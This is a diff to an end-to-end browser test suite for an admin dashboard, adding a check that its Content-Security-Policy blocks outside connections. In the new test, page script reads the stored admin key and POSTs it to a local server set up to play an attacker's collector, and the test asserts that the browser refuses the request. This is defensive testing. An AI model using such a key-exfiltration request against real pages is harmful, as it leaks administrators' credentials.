@@ -1,6 +1,7 @@
 // End-to-end: the built dashboard in headless Chromium against the real worker, one admin's session from
 // sign-in to sign-out. The steps share the browser page and build on each other, in order.
 import assert from 'node:assert/strict';
+import { createServer } from 'node:http';
 import { after, before, describe, it } from 'node:test';
 import { clearArtifacts, forgeAllow, launchBrowser, loadSdk, screenshot, startDashboard, startWorker } from './support/harness.mjs';
 
@@ -34,14 +35,11 @@ const main = () => page.locator('main');
 const nav = (name) => page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name, exact: true });
 const heading = (name) => page.getByRole('heading', { level: 1, name, exact: true });
 const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
-const validate = (apiKey, body) => new sdk.OakAuth({ apiKey, baseUrl: worker.baseUrl }).validate(body);
+const validate = (apiKey, body) => new sdk.OakAuth({ apiKey, baseUrl: worker.baseUrl, allowInsecureLoopback: true }).validate(body);
 const logRow = (decisionId) => page.locator(`li[data-decision-id="${decisionId}"]`);
 const eventActions = () => page.getByTestId('event-list').locator(':scope > li').evaluateAll((rows) => rows.map((r) => r.dataset.action));
 
-async function signIn(key, baseUrl = worker.baseUrl) {
-  const url = page.getByLabel('API URL', { exact: true });
-  if (!(await url.isVisible())) await page.getByText(/^API URL:/).click();
-  await url.fill(baseUrl);
+async function signIn(key) {
   await page.getByLabel('Admin key').fill(key);
   await page.getByRole('button', { name: 'Sign in' }).click();
 }
@@ -49,8 +47,10 @@ async function signIn(key, baseUrl = worker.baseUrl) {
 describe('dashboard in a browser', { timeout: 15 * 60_000 }, () => {
   before(async () => {
     await clearArtifacts();
-    [worker, dashboard, sdk] = await Promise.all([startWorker(), startDashboard(), loadSdk()]);
-    admin = new sdk.OakAuthAdmin({ adminKey: worker.adminKey, baseUrl: worker.baseUrl });
+    [worker, sdk] = await Promise.all([startWorker(), loadSdk()]);
+    // The API URL is fixed at build time: the dashboard is built for this worker.
+    dashboard = await startDashboard(worker.baseUrl);
+    admin = new sdk.OakAuthAdmin({ adminKey: worker.adminKey, baseUrl: worker.baseUrl, allowInsecureLoopback: true });
     browser = await launchBrowser();
     context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
     await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: dashboard.url });
@@ -70,8 +70,13 @@ describe('dashboard in a browser', { timeout: 15 * 60_000 }, () => {
 
   step('explains a wrong key and an unreachable API, then signs in', async () => {
     await page.goto(dashboard.url);
-    await signIn(worker.adminKey, 'http://127.0.0.1:9');
-    await page.getByRole('alert').getByText(/Could not reach the API at http:\/\/127\.0\.0\.1:9\b/).waitFor();
+    await page.getByTestId('api-url').getByText(`API: ${worker.baseUrl}`).waitFor();
+    // The API as unreachable: the browser refuses every request to it.
+    const api = `${new URL(worker.baseUrl).origin}/**`;
+    await page.route(api, (route) => route.abort('connectionrefused'));
+    await signIn(worker.adminKey);
+    await page.getByRole('alert').getByText(`Could not reach the API at ${worker.baseUrl}.`).waitFor();
+    await page.unroute(api);
 
     await signIn(`oakadm_${'x'.repeat(40)}`);
     await page.getByRole('alert').getByText('The API did not accept this admin key').waitFor();
@@ -516,9 +521,45 @@ describe('dashboard in a browser', { timeout: 15 * 60_000 }, () => {
     await page.getByRole('heading', { name: 'Sign in to the admin dashboard' }).waitFor();
   });
 
-  step('the page broke none of its own Content-Security-Policy (public/_headers)', async () => {
+  step('the page broke none of its own Content-Security-Policy (the _headers the build wrote)', async () => {
     const res = await fetch(dashboard.url);
     assert.match(res.headers.get('content-security-policy') ?? '', /script-src 'self'/);
     assert.deepEqual(cspViolations, []);
+  });
+
+  step('the CSP lets the page connect to its own origin and the configured API only', async () => {
+    const csp = (await fetch(dashboard.url)).headers.get('content-security-policy') ?? '';
+    const connect = csp.split(';').map((d) => d.trim()).filter((d) => d.startsWith('connect-src'));
+    assert.deepEqual(connect, [`connect-src 'self' ${new URL(worker.baseUrl).origin}`]);
+
+    // Another local server that would take anything from any origin, as an attacker's would.
+    const received = [];
+    const other = createServer((req, res) => {
+      received.push(req.url);
+      res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' }).end('taken');
+    });
+    await new Promise((resolve) => other.listen(0, '127.0.0.1', resolve));
+    const otherUrl = `http://127.0.0.1:${other.address().port}/collect`;
+    try {
+      const result = await page.evaluate(async (url) => {
+        const violations = [];
+        document.addEventListener('securitypolicyviolation', (e) => violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
+        let outcome;
+        try {
+          outcome = await (await fetch(url, { method: 'POST', body: sessionStorage.getItem('oakauth.adminKey') ?? 'oakadm_secret' })).text();
+        } catch (err) {
+          outcome = `refused: ${err.name}`;
+        }
+        await new Promise((resolve) => setTimeout(resolve, 200)); // the violation event is dispatched as a task
+        return { outcome, violations };
+      }, otherUrl);
+      assert.equal(result.outcome, 'refused: TypeError');
+      assert.equal(result.violations.length, 1, JSON.stringify(result.violations));
+      assert.equal(result.violations[0].directive, 'connect-src');
+      assert.equal(new URL(result.violations[0].blocked).origin, new URL(otherUrl).origin);
+      assert.deepEqual(received, [], 'nothing reached the other server');
+    } finally {
+      await new Promise((resolve) => other.close(resolve));
+    }
   });
 });
